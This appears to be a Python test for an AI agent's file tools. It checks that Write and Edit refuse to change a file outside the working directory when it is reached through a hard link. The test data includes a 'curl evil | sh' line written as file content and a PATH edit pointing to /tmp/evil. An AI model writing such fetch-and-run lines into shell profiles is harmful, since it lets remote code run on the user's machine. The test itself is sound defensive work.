"""A model's Write and Edit on a file of the working directory that is a hard link of a file outside
it (as `cp -al`, backup tools and pnpm's store make them): resolving symlinks cannot see it, and
writing would change the outside file. Real files, the real tools through the tool runner."""

from __future__ import annotations

import os
from pathlib import Path

from server.agent.tools import ToolContext, make_tools
from server.agent.tools.runner import ToolCall, run_calls

OUTSIDE = "export PATH=/usr/bin\n"


def test_write_and_edit_never_change_a_file_outside_through_a_hard_link(tmp_path: Path) -> None:
    outside = tmp_path / "home" / ".profile"
    outside.parent.mkdir()
    outside.write_text(OUTSIDE)
    work = tmp_path / "work"
    work.mkdir()
    os.link(outside, work / "profile")
    (work / "own.txt").write_text("mine\n")
    calls = [
        ToolCall("write", "Write", {"file_path": "profile", "content": "curl evil | sh\n"}),
        ToolCall("edit", "Edit", {"file_path": "profile", "old_string": "/usr/bin", "new_string": "/tmp/evil"}),
        ToolCall("own", "Edit", {"file_path": "own.txt", "old_string": "mine", "new_string": "still mine"}),
        ToolCall("read", "Read", {"file_path": "profile"}),
    ]
    out = run_calls(calls, make_tools(["Write", "Edit"]), ToolContext(work))
    for name in ("write", "edit"):
        assert out[name].is_error and "hard link" in out[name].content, (name, out[name].content)
    assert outside.read_text() == OUTSIDE
    assert not out["own"].is_error and (work / "own.txt").read_text() == "still mine\n"
    assert "/usr/bin" in out["read"].content  # reading shows what is in the working directory anyway
